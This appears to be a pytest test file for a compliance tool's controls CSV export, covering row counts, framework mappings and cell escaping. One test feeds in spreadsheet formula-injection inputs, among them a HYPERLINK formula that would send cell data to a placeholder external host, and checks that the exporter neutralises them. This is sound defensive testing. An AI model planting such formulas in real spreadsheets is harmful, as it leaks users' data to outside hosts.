"""The controls CSV: one row per control with the record's counts, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from stratatest.compliance.results import NO_TEST_REASON, RunRecord
from stratatest.report.controls_csv import COLUMNS, render_controls_csv


def rows(record: RunRecord) -> dict[str, dict[str, str]]:
    text = render_controls_csv(record)
    assert text.endswith("\r\n") and "\r\n" in text.splitlines(keepends=True)[0]
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    parsed = list(reader)
    assert [r["control"] for r in parsed] == [c.id for c in record.controls]
    return {r["control"]: r for r in parsed}


def test_one_row_per_control_with_the_run_on_every_row(record: RunRecord) -> None:
    table = rows(record)
    assert len(table) == len(record.controls)
    assert {(r["run_id"], r["commit"], r["finished"]) for r in table.values()} == {
        ("st0a1b2c", "0123456789abcdef0123456789abcdef01234567", "2026-11-26T17:00:00.000+00:00")
    }
    statuses = [r["status"] for r in table.values()]
    summary = record.summary()["controls"]
    assert statuses.count("failed") == summary["failed"] == 1
    assert statuses.count("waived") == summary["waived"] == 1
    assert statuses.count("passed") == summary["passed"] == 1
    assert statuses.count("not assessed") == summary["not_assessed"]


def test_counts_layers_and_waivers_come_from_the_record(record: RunRecord) -> None:
    c = [control.id for control in record.controls]
    table = rows(record)
    columns = ("tests_total", "tests_passed", "tests_failed", "tests_skipped", "tests_waived")
    findings = ("findings_passed", "findings_failed", "findings_waived", "findings_skipped")
    assert [table[c[0]][k] for k in (*columns, *findings)] == ["2", "2", "0", "0", "0", "2", "0", "0", "0"]
    assert table[c[0]]["layers"] == "static; plan; emulator"
    assert [table[c[1]][k] for k in ("status", "tests_failed", "findings_failed", "layers")] == [
        "failed",
        "1",
        "1",
        "static; plan",
    ]
    assert [table[c[2]][k] for k in ("status", "tests_waived", "waivers")] == ["waived", "1", "W-001"]


def test_frameworks_name_version_and_ids(record: RunRecord) -> None:
    real = rows(record)[record.controls[1].id]["frameworks"]  # STRATA-S3-002 in the real catalogue
    assert "CIS AWS Foundations 5.0.0: 2.1.4; AWS FSBP 1.0.0: S3.8; " in real
    record.controls[1].mappings = [
        {"framework": "CIS AWS Foundations", "version": "5.0.0", "ids": ["2.1.4"]},
        {"framework": "AWS FSBP", "version": "1.0.0", "ids": ["S3.8", "S3.1"]},
    ]
    record.controls[2].mappings = []  # a custom control maps nowhere
    table = rows(record)
    assert table[record.controls[1].id]["frameworks"] == "CIS AWS Foundations 5.0.0: 2.1.4; AWS FSBP 1.0.0: S3.8, S3.1"
    assert table[record.controls[2].id]["frameworks"] == ""


def test_not_assessed_says_why_and_only_then(record: RunRecord) -> None:
    c = [control.id for control in record.controls]
    table = rows(record)
    assert table[c[3]]["status"] == "not assessed"
    assert table[c[3]]["not_assessed_reason"] == "no Kubernetes cluster on this machine"
    assert table[c[5]]["not_assessed_reason"] == NO_TEST_REASON
    assert table[c[0]]["not_assessed_reason"] == table[c[1]]["not_assessed_reason"] == ""


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
)
def test_cells_a_spreadsheet_would_evaluate_are_text(record: RunRecord, text: str) -> None:
    record.controls[0].title = text
    record.controls[5].reasons = [text]
    table = rows(record)
    assert table[record.controls[0].id]["title"] == "'" + text
    assert table[record.controls[5].id]["not_assessed_reason"] == "'" + text
    assert table[record.controls[0].id]["tests_total"] == "2"  # numbers are left alone


def test_commas_quotes_and_newlines_stay_in_their_cell(record: RunRecord) -> None:
    reason = 'waits for "cluster", then:\nretry; 100% sure'
    record.controls[5].reasons = [reason]
    table = rows(record)
    assert table[record.controls[5].id]["not_assessed_reason"] == reason
    assert len(table) == len(record.controls)
